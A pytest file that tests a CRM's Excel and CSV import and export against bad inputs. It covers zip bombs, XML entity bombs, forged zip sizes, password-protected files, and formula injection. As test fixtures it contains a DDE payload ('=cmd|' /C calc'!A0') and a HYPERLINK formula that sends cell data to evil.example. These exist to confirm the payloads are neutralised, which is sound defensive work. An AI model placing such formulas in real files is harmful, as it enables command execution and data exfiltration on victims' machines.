"""Bad files, export, formula neutralization and the round trip."""

from __future__ import annotations

import resource
import time

import pytest
from crm_workspace_excel import rejects
from crm_workspace_excel.execute import execute
from crm_workspace_excel.exporting import export_frame
from crm_workspace_excel.plan import plan_import
from crm_workspace_excel.prepare import prepare
from crm_workspace_excel.reader import UnreadableFile, open_book
from excel_workbooks import (
    dimension_bomb,
    entity_bomb,
    forged_sizes,
    messy_contacts,
    password_protected,
    random_zip,
    simple,
    zip_bomb,
)
from openpyxl import load_workbook

from crm_workspace.services.export import write_xlsx


def _csv_renamed(path):
    path.write_text("First Name,Last Name,Email\nAna,García,ana@example.com\n", encoding="utf-8")
    return path


def _text(path):
    path.write_text("Dear team,\nplease find the contacts attached.\n", encoding="utf-8")
    return path


def _empty(path):
    path.write_bytes(b"")
    return path


def _garbage(path):
    path.write_bytes(bytes(range(256)) * 8)
    return path


BAD = {
    "empty.xlsx": (_empty, "is empty"),
    "renamed.xlsx": (_csv_renamed, "not an Excel workbook: it contains CSV"),
    "letter.xlsx": (_text, "not an Excel workbook: it contains plain text"),
    "random.xlsx": (random_zip, "zip archive but not an Excel workbook"),
    "locked.xlsx": (password_protected, "password-protected"),
    "lol.xlsx": (entity_bomb, "XML entity declarations"),
    "bomb.xlsx": (zip_bomb, "zip bomb"),
    # the zip directory lies about the sheet's size: caught while checking for entities, or by calamine
    "forged-small.xlsx": (lambda path: forged_sizes(path, 2_000), "damaged zip/xlsx file"),
    "forged.xlsx": (lambda path: forged_sizes(path, 100_000), "larger than its declared uncompressed size"),
    "binary.xlsx": (_garbage, "not a spreadsheet"),
}


@pytest.mark.parametrize("name", sorted(BAD))
def test_bad_files_one_clear_line_database_untouched(tmp_path, workspace, name):
    make, message = BAD[name]
    path = make(tmp_path / name)
    audit = workspace.store.scalar("SELECT count(*) FROM audit_log")
    started = time.perf_counter()
    with pytest.raises(UnreadableFile) as info:
        prepare(workspace, path)
    assert time.perf_counter() - started < 5
    assert message in str(info.value) and "\n" not in str(info.value)
    assert workspace.store.scalar("SELECT count(*) FROM audit_log") == audit


def test_missing_path(tmp_path):
    with pytest.raises(UnreadableFile, match="no such file"):
        open_book(tmp_path / "nope.xlsx")


@pytest.mark.parametrize("make", [zip_bomb, lambda path: forged_sizes(path, 100_000)], ids=["bomb", "forged"])
def test_zip_bomb_refused_without_inflating(tmp_path, make):
    path = make(tmp_path / "bomb.xlsx")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(UnreadableFile):
        open_book(path).table()
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000  # KB: never inflated 64 MB


def test_million_row_dimension_claim_imports_quickly(tmp_path, workspace):
    path = dimension_bomb(tmp_path / "dim.xlsx")
    prepared = prepare(workspace, path)
    assert len(prepared.table.rows) == 10
    plan = plan_import(workspace, prepared.table, "contacts", prepared.mapping)
    execute(workspace, plan)
    assert workspace.store.scalar("SELECT count(*) FROM contacts") == 10


def test_csv_file_imports(tmp_path, workspace):
    path = tmp_path / "people.csv"
    path.write_text("First Name;Last Name;E-mail\nZoë;Ünal;ZOE@example.com\n", encoding="utf-8")
    prepared = prepare(workspace, path)
    plan = plan_import(workspace, prepared.table, prepared.entity, prepared.mapping)
    assert plan.creates[0].record == {"first_name": "Zoë", "last_name": "Ünal", "email": "zoe@example.com"}


def test_sheet_option(tmp_path, workspace):
    path = messy_contacts(tmp_path / "m.xlsx")
    with pytest.raises(Exception, match="no sheet named 'Nope'"):
        prepare(workspace, path, sheet="Nope")


def test_export_is_typed_safe_and_round_trips(tmp_path, workspace):
    path = messy_contacts(tmp_path / "m.xlsx")
    prepared = prepare(workspace, path)
    execute(workspace, plan_import(workspace, prepared.table, "contacts", prepared.mapping))
    eva_id = workspace.store.scalar("SELECT id FROM contacts WHERE first_name = 'Eva'")
    workspace.store.update("contacts", eva_id, {"notes": "=cmd|' /C calc'!A0", "title": "+1 (guru)"})
    frame = export_frame(workspace, "contacts")
    out = write_xlsx(frame, tmp_path / "contacts.xlsx", sheet_name="contacts")
    sheet = load_workbook(out)["contacts"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    header = [c.value for c in sheet[1]]
    eva = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("first_name")].value == "Eva")
    notes = eva[header.index("notes")]
    assert notes.value == "=cmd|' /C calc'!A0" and notes.data_type == "s"  # text, never a live formula
    assert eva[header.index("title")].data_type == "s"
    assert eva[header.index("created_at")].is_date
    # the export re-imports cleanly: nothing rejected, nothing changed, same emails
    again = prepare(workspace, out)
    assert again.entity == "contacts" and again.mapping["organization"] == "organization"
    plan = plan_import(workspace, again.table, "contacts", again.mapping)
    assert plan.rejects == [] and plan.creates == [] and plan.updates == []
    assert len(plan.unchanged) == len(frame)
    # and into an empty workspace it recreates the same contacts and organizations
    from crm_workspace.testing import make_workspace

    fresh = make_workspace(tmp_path / "fresh.db")
    prepared = prepare(fresh, out)
    execute(fresh, plan_import(fresh, prepared.table, "contacts", prepared.mapping))
    assert (
        export_frame(fresh, "contacts")
        .drop(columns=["id", "updated_at"])
        .equals(frame.drop(columns=["id", "updated_at"]))
    )
    fresh.close()


def test_formula_cells_use_cached_value(tmp_path, workspace):
    path = simple(tmp_path / "f.xlsx", ["First Name", "Last Name", "Email"], [["Ana", '="Gar"&"cía"', "a@example.com"]])
    prepared = prepare(workspace, path)
    # openpyxl writes no cached value: the formula cell reads as empty, never as formula text
    assert prepared.table.rows[0][1] in ("", None)


def test_a_sheet_away_from_a1_keeps_its_rows_and_columns_and_shares_repeated_text(tmp_path, workspace):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row, values in enumerate(
        [["First Name", "Last Name", "Email"], ["Ana", "Silva", "ana@example.com"], ["Bo", "Silva", "bo@x"]], start=3
    ):
        for column, value in enumerate(values, start=3):  # starts at C3
            sheet.cell(row, column, value)
    book.save(tmp_path / "c3.xlsx")
    table = open_book(tmp_path / "c3.xlsx").table()
    assert (table.header_row, table.headers[:2]) == (2, ["Column 1", "Column 2"])
    assert table.headers[2:] == ["First Name", "Last Name", "Email"] and table.row_numbers == [4, 5]
    assert table.rows[0][3] is table.rows[1][3]  # "Silva" is held once
    prepared = prepare(workspace, tmp_path / "c3.xlsx")
    plan = plan_import(workspace, prepared.table, "contacts", prepared.mapping)
    prepared.table.rows.clear()  # `crm import` lets the sheet go before writing: the rejects need none of it
    assert rejects.frame(plan).values.tolist() == [
        [5, "", "", "Bo", "Silva", "bo@x", "Email: not an email address: 'bo@x'"]
    ]


def test_headers_are_never_written_as_live_formulas(tmp_path, workspace):
    """A header from an imported file ("=HYPERLINK(...)") is text in the rejects workbook and in exports."""
    hostile = '=HYPERLINK("http://evil.example/?"&A2,"Email")'
    path = tmp_path / "h.csv"
    path.write_text(f'First Name,Last Name,Email,"{hostile.replace(chr(34), chr(34) * 2)}"\nBo,Silva,bo@x,1\n')
    prepared = prepare(workspace, path)
    plan = plan_import(workspace, prepared.table, "contacts", prepared.mapping)
    out = rejects.write_rejects(plan, tmp_path / "rejects.xlsx")
    header = load_workbook(out).active[1]
    assert [c.value for c in header][4] == hostile
    assert all(c.data_type == "s" for c in header)  # text, never a formula
    import pandas as pd

    out = write_xlsx(pd.DataFrame({"@SUM(1)": [1], "+cmd": ["x"]}), tmp_path / "e.xlsx")
    assert [(c.value, c.data_type) for c in load_workbook(out).active[1]] == [("@SUM(1)", "s"), ("+cmd", "s")]


def test_a_csv_field_over_128_kib_imports_and_a_runaway_field_is_one_line(tmp_path, workspace):
    notes = "x" * 300_000
    path = tmp_path / "long.csv"
    path.write_text(f'First Name,Last Name,Email,Notes\nAna,Silva,ana@example.com,"{notes}"\n', encoding="utf-8")
    prepared = prepare(workspace, path)
    assert prepared.table.rows[0][3] == notes
    path.write_text('First Name,Last Name\nAna,"' + "y" * 2_000_000 + "\n", encoding="utf-8")  # a quote left open
    with pytest.raises(UnreadableFile) as info:
        prepare(workspace, path)
    assert "line 2 has a field longer than 1,024 KiB" in str(info.value) and "\n" not in str(info.value)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32", "utf-8-sig"])
def test_csv_with_a_byte_order_mark_is_decoded_by_it(tmp_path, workspace, encoding):
    text = "First Name;Last Name;E-mail\nZoë;Ünal;ZOE@example.com\n"
    raw = text.encode(encoding)
    if encoding == "utf-16-be":
        raw = b"\xfe\xff" + raw
    path = tmp_path / "people.csv"
    path.write_bytes(raw)
    prepared = prepare(workspace, path)
    assert prepared.table.headers == ["First Name", "Last Name", "E-mail"]
    assert prepared.table.rows == [["Zoë", "Ünal", "ZOE@example.com"]]
